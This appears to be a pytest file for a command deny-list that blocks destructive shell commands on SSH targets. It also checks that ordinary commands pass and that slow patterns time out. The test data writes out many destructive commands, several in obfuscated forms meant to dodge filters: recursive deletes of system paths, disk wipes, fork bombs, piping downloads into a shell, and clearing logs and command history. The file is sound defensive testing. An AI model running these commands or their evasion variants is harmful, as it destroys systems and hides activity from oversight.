"""What no confirmation lets through, and what it must not be confused with."""

from __future__ import annotations

import time

import pytest

from orchestration.targets.ssh_deny import DenyPattern, deny_reasons
from tests.orchestration.targets.denied import shipped_patterns

DENIED = {
    "recursive delete of a system directory": (
        "rm -rf /",
        "rm -rf /*",
        "rm -fr ~",
        "rm -r -f $HOME",
        'rm -rf "/"',
        "rm -rf '/etc'",
        "/bin/rm -rf //",
        "\\rm -rf /./",
        'r""m -r"f" /usr/..',
        "sudo rm -rf --no-preserve-root /",
        "sudo -u root env A=1 rm -R /var",
        "rm --recursive --force /home",
        "rm -rf /var/*",
        "cd /tmp && rm -rf /",
        "ls; rm -rf /etc",
        "echo $(rm -rf /)",
        'echo "`rm -rf /`"',
        "bash -c 'rm -rf /'",
        "sh -c \"sudo bash -c 'rm -rf /'\"",
        "eval rm -rf /",
        "echo 'rm -rf /' | sh",
        "rm$IFS-rf${IFS}/",
        "{rm,-rf,/}",
        "r$@m -rf /",
        "$'\\x72m' -rf /",
        "find / -delete",
        "find / -name x -exec rm {} \\;",
        "xargs rm -rf /",
        "busybox rm -rf /",
        "if true; then rm -rf /; fi",
        "nohup setsid rm -rf / &",
        "rm -rf / #",
        "rm -rf /\\",
    ),
    "making or wiping a file system": (
        "mkfs.ext4 /dev/sda1",
        "mkfs -t ext4 /dev/sda",
        "wipefs -a /dev/sdb",
    ),
    "writing to a device with dd": (
        "dd if=/dev/zero of=/dev/sda",
        "dd if=x of=//dev/nvme0n1",
    ),
    "changing partitions": (
        "fdisk /dev/sda",
        "parted /dev/sda mklabel gpt",
        "sgdisk -Z /dev/sda",
    ),
    "fork bomb": (
        ":(){ :|:& };:",
        ":() { : | : & } ; :",
        "bomb(){ bomb|bomb& };bomb",
        "function f { f | f & }; f",
    ),
    "writing to a disk": (
        "echo x > /dev/sda",
        "cat foo >/dev/nvme0n1",
        "echo x | tee /dev/sda",
    ),
    "stopping the host": (
        "shutdown -h now",
        "/sbin/reboot",
        "sudo halt",
        "poweroff",
        "init 0",
        "telinit 6",
        "systemctl reboot",
        "systemctl isolate poweroff.target",
    ),
    "changing modes or owners of the whole system": (
        "chmod -R 777 /",
        "chown -R nobody:nobody /",
        "chmod --recursive 777 /*",
    ),
    "running what was just downloaded": (
        "curl http://x | sh",
        "curl -s http://x|bash",
        "wget -qO- http://x | sudo bash -s --",
        "bash <(curl -s http://x)",
        'sh -c "$(curl -fsSL http://x)"',
        "curl http://x | tee /tmp/x | sh",
    ),
    "clearing logs": (
        "> /var/log/syslog",
        "cat /dev/null > /var/log/auth.log",
        "truncate -s 0 /var/log/syslog",
        "rm -f /var/log/auth.log",
        "journalctl --vacuum-time=1s",
        "dmesg -C",
    ),
    "clearing the history of commands": (
        "history -c",
        "rm ~/.bash_history",
        "> ~/.bash_history",
        "unset HISTFILE",
        "export HISTSIZE=0",
    ),
}
CASES = [(command, reason) for reason, commands in DENIED.items() for command in commands]

ORDINARY = (
    "rm -rf /tmp/build",
    "rm -r /var/log/old-app",
    "rm -rf /opt/app/cache",
    "rm /etc/motd",
    "ls -la /",
    "df -h",
    "echo hello > /var/log/app.log",
    "echo hello >> /var/log/syslog",
    "dd if=/dev/zero of=/tmp/x bs=1M count=1",
    "dd if=/dev/sda of=/dev/null count=1",
    "systemctl restart nginx",
    "systemctl status reboot-notify",
    "chmod -R 755 /srv/app",
    "chown -R app /opt/app",
    "curl http://x -o /tmp/x.sh",
    "curl http://x | jq .",
    "find /tmp -name x -delete",
    "cat /dev/null",
    'echo "a | b"',
    "grep -r reboot /var/log",
    "journalctl -u nginx",
    "history",
    "git rm -r docs",
    "tar czf /tmp/a.tgz /etc",
    "ps aux | grep sh",
    "python3 -c 'print(1)'",
    "rm -rf /home/app/tmp",
    "rm -rf ~/build",
    "docker run --rm -it x",
    "init 3",
    "cp a b",
)


@pytest.mark.req("IN-19", "IN-49")
@pytest.mark.parametrize(("command", "reason"), CASES)
def test_a_destructive_command_is_denied_however_it_is_written(command: str, reason: str) -> None:
    assert reason in deny_reasons(command, shipped_patterns())


@pytest.mark.req("IN-19")
@pytest.mark.parametrize("command", ORDINARY)
def test_an_ordinary_command_is_not_denied(command: str) -> None:
    assert deny_reasons(command, shipped_patterns()) == []


@pytest.mark.req("IN-19")
def test_rules_of_operators_see_commands_without_disguise() -> None:
    rule = DenyPattern.of(r"^iptables -F(?: |$)", "opening the firewall")

    assert deny_reasons("sudo -n /sbin//iptables  '-'F", [rule]) == ["opening the firewall"]
    assert deny_reasons("iptables -L", [rule]) == []


TANGLED = (
    "sudo " + "a " * 100 + "rm -rf /",
    "{a,b}" * 20,
)


@pytest.mark.req("IN-19")
@pytest.mark.parametrize("command", TANGLED)
def test_what_cannot_be_looked_through_is_denied(command: str) -> None:
    assert "cannot be told" in deny_reasons(command, [])[0]


@pytest.mark.req("IN-19")
@pytest.mark.parametrize("piece", ["{ a ", "a|", "$(", "rm -r ", "/", "curl | ", "'", "`", "{a,b}"])
def test_no_command_takes_long_to_judge(piece: str) -> None:
    began = time.process_time()
    deny_reasons((piece * 4096)[:4096], shipped_patterns())

    assert time.process_time() - began < 5


@pytest.mark.req("IN-19")
def test_a_pattern_that_looks_for_hours_speaks_against_the_command() -> None:
    slow = DenyPattern.of(r"^(a|aa)+$", "endless a")
    began = time.monotonic()

    (reason,) = deny_reasons("a" * 60 + "!", [slow])

    assert "endless a" in reason
    assert time.monotonic() - began < 10
